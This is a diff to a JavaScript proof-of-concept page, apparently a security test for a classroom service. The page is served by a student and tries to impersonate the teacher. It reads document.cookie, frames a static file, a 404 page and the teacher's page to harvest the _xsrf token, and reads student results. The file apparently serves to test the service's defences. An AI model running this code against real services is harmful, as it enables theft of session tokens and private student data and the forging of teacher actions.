@@ -1,11 +1,28 @@
 // A student's page, served by the student's own server, that tries to act as the teacher
-// when the teacher opens it (issue 26, point 1). The service's address is after the '#'.
+// when the teacher opens it. The service's address is after the '#'.
 "use strict";
 (async () => {
   const svc = decodeURIComponent(location.hash.slice(1));
   const out = { myCookies: document.cookie };
   const xsrfOf = (text) => ((text || "").match(/(?:^|;\s*)_xsrf=([^;]*)/) || [])[1] || "";
   let xsrf = xsrfOf(document.cookie);
+
+  // 0. Frame a static file and a 404 of the service: documents of the service's origin
+  // that are not the teacher's page, whose cookies (its _xsrf) the framing page could read.
+  const framed = async (path) => {
+    const f = document.createElement("iframe");
+    f.src = svc + path;
+    document.body.append(f);
+    await new Promise((done) => { f.onload = done; setTimeout(done, 8000); });
+    try {
+      const doc = f.contentDocument;
+      if (!doc || !doc.body || doc.location.href === "about:blank") return null;
+      xsrf = xsrfOf(doc.cookie) || xsrf;
+      return { text: doc.body.innerText.slice(0, 100), cookies: doc.cookie };
+    } catch (err) { return { error: String(err) }; }
+  };
+  out.staticFrame = await framed("static/class.css");
+  out.notFoundFrame = await framed("no-such-page");
 
   // 1. Frame the teacher's page and read it (students, results, its _xsrf cookie).
   const frame = document.createElement("iframe");
